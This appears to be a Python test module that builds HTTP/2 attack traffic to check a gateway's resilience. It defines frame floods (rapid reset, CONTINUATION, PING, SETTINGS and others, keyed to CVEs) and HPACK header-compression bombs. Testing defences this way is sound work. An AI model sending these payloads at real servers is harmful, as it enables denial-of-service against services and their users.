"""Frames of HTTP/2 in masses: each is allowed, and together they are an attack."""

from __future__ import annotations

from gateway.wire.h2.codes import CANCEL, CONTINUATION, DATA, HEADERS, PING
from gateway.wire.h2.frames import frame, rst_stream, settings, window_update
from harness.attacks.streams import OPEN, body, head
from harness.frames import GET, block

MANY = 20_000
"""Twice what a budget of the gateway covers at once."""
STREAMS = range(1, 4001, 2)
_ENTRY = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4001
"""A literal with incremental indexing (RFC 7541 6.2.1): one entry that fills the dynamic table."""

FLOODS = {
    "CVE-2023-44487 rapid reset": b"".join(head(ident) + rst_stream(ident, CANCEL) for ident in STREAMS),
    "CVE-2025-8671 MadeYouReset": b"".join(head(ident) + window_update(ident, 0) for ident in STREAMS),
    "CVE-2024-27316 CONTINUATION": frame(HEADERS, 1, 1, block(GET))
    + frame(CONTINUATION, 0, 1, block([(b"x", b"y" * 1000)])) * 2000,
    "CVE-2024-27316 empty CONTINUATION": frame(HEADERS, 1, 1, block(GET)) + frame(CONTINUATION, 0, 1, b"") * MANY,
    "CVE-2019-9512 PING": frame(PING, 0, 0, b"12345678") * MANY,
    "CVE-2019-9515 SETTINGS": settings([(3, 100)]) * MANY,
    "CVE-2020-11080 SETTINGS of 2000 entries": settings([(3, 100)] * 2000) * 10,
    "CVE-2019-9513 PRIORITY": frame(2, 0, 1, b"\0\0\0\0\x10") * MANY,
    "CVE-2019-9518 empty DATA": OPEN + frame(DATA, 0, 1, b"") * MANY,
    "CVE-2019-9511 WINDOW_UPDATE of a byte": OPEN + window_update(1, 1) * MANY,
    "RFC 9113 10.5 unknown frames": frame(0x77, 0, 0, b"") * MANY,
    "RFC 9113 5.1 DATA on a stream that was reset": OPEN + rst_stream(1, CANCEL) + body(b"a") * MANY,
}
"""The connection is to end. No frame of it is malformed, except those that have the receiver reset streams."""

BOMBS = {
    "CVE-2016-6581 one entry, 11 000 times": frame(HEADERS, 5, 1, block(GET) + _ENTRY + b"\xbe" * 11_000),
    "CVE-2019-9516 5000 names without a character": frame(HEADERS, 5, 1, block(GET) + b"\x00\x00\x00" * 5000),
    "CVE-2026-49975 crumbs of a cookie": frame(HEADERS, 5, 1, block(GET) + block([(b"cookie", b"")]) * 4000),
}
"""A few kilobytes of header block that become megabytes, or thousands, of fields."""
